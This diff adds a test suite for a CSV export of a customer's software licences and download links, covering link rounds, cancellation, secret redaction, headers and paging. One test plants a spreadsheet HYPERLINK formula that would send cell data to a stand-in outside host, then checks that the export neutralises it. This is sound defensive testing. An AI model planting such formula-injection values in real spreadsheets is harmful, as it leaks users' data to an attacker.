@@ -1,0 +1,121 @@
+import { DAY_MS } from '../../src/clock';
+import { sql } from '../../src/database/sql';
+import { completeCancellation, requestCancellation } from '../access/world';
+import { statementsOf } from '../support/statements';
+import { type ExportDesk, openExportDesk } from './export-desk';
+
+describe('the software of a customer as a table', () => {
+  let desk: ExportDesk;
+
+  beforeEach(async () => {
+    desk = await openExportDesk();
+  });
+  afterEach(() => desk.close());
+
+  const ofSoftware = async (id: string) => (await desk.lines()).filter(({ softwareId }) => softwareId === id);
+
+  it('has a line for each link, and one for software without', async () => {
+    const { softwareId, otherSoftwareId, orderNumber, linkId, editionId, subscriptionId } = desk.world;
+    expect(await desk.lines()).toHaveLength(2);
+    expect(await ofSoftware(softwareId)).toEqual([
+      {
+        softwareId,
+        product: expect.any(String),
+        sku: expect.any(String),
+        skuId: desk.world.skuId,
+        quantity: '1',
+        status: 'ACTIVE',
+        purchasedAt: '2026-01-15T09:30:00.000Z',
+        expiresAt: '2027-01-15T09:30:00.000Z',
+        subscriptionId,
+        orderNumber,
+        purchaseOrderNumber: 'PO-1',
+        orderedBy: 'Test ADMIN_AGENT',
+        editionId,
+        editionVersion: '2022',
+        editionLanguage: expect.any(String),
+        editionFile: expect.any(String),
+        linkId,
+        linkRound: '1',
+        linkStatus: 'ACTIVE',
+        linkIssuedAt: '2026-01-15T09:30:00.000Z',
+        linkExpiresAt: '2026-01-29T09:30:00.000Z',
+        downloadsUsed: '0',
+        downloadsRemaining: '50',
+      },
+    ]);
+    expect(await ofSoftware(otherSoftwareId)).toMatchObject([
+      { orderNumber, expiresAt: '', linkId: '', linkStatus: '', downloadsUsed: '' },
+    ]);
+  });
+
+  it('tells every round of a link, and where each stands now', async () => {
+    const { softwareId, customer, orderId } = desk.world;
+    const admin = desk.as('ADMIN_AGENT');
+    desk.clock.advance(14 * DAY_MS);
+    await admin.query(`mutation { reissueExpiredLinks(input: { customer: { id: "${customer.id}" } }) { remaining } }`);
+    const states = async () =>
+      (await ofSoftware(softwareId)).map(({ status, linkRound, linkStatus }) => [status, linkRound, linkStatus]);
+    expect(await states()).toEqual([
+      ['ACTIVE', '1', 'EXPIRED'],
+      ['ACTIVE', '2', 'ACTIVE'],
+    ]);
+    const { id } = await requestCancellation(admin, customer.id, orderId, { softwareIds: [softwareId] });
+    await completeCancellation(desk, id);
+    expect(await states()).toEqual([
+      ['CANCELLED', '1', 'EXPIRED'],
+      ['CANCELLED', '2', 'REVOKED'],
+    ]);
+  });
+
+  it('has no key and nothing that opens a link in it', async () => {
+    const { node } = await desk
+      .as('ADMIN_AGENT')
+      .query(
+        `{ node(id: "${desk.world.softwareId}") { ... on Software { keys { value masked } downloadLinks { url } } } }`,
+      );
+    const { body } = await desk.get();
+    expect(body).toContain(desk.world.linkId);
+    for (const secret of [node.keys[0].value, node.keys[0].masked, node.downloadLinks[0].url.split('/').at(-1)])
+      expect(body).not.toContain(secret);
+    expect(body).not.toMatch(/https?:/);
+  });
+
+  it('is saved under the customer’s domain, and kept by no cache', async () => {
+    const { headers } = await desk.get();
+    expect(headers).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8; header=present',
+      'content-disposition': `attachment; filename="software-${desk.world.customer.domain}-2026-01-15.csv"`,
+      'cache-control': 'no-store',
+      'x-content-type-options': 'nosniff',
+    });
+  });
+
+  it('runs nothing in a spreadsheet, whatever an order was called', async () => {
+    const formula = `=HYPERLINK("http://x.example?"&A1,"Order, ""open""")`;
+    await desk.gateway.database.transaction((tx) =>
+      tx.query(sql`UPDATE "orders" SET "purchaseOrderNumber" = ${formula}`),
+    );
+    for (const line of await desk.lines()) expect(line.purchaseOrderNumber).toBe(`'${formula}`);
+  });
+
+  it('has all software once, in its order, in three statements for each page', async () => {
+    await desk.sellMore(450);
+    let lines: ExportDesk['lines'] extends () => Promise<infer Lines> ? Lines : never = [];
+    const statements = await statementsOf(async () => {
+      lines = await desk.lines();
+    });
+    expect(lines).toHaveLength(452);
+    expect(new Set(lines.map(({ softwareId }) => softwareId)).size).toBe(452);
+    const times = lines.map(({ purchasedAt }) => purchasedAt);
+    expect(times).toEqual([...times].sort());
+    // The customer, how much software it has, and three for the audit trail; then the pages.
+    expect(statements).toHaveLength(2 + 3 + 3 * 3);
+  });
+
+  it('is empty but for its header where nothing was bought', async () => {
+    const { id } = await desk.make.customer();
+    const { body } = await desk.get(id);
+    expect(body).toMatch(/^softwareId,product,[\w,]+\r\n$/);
+  });
+});
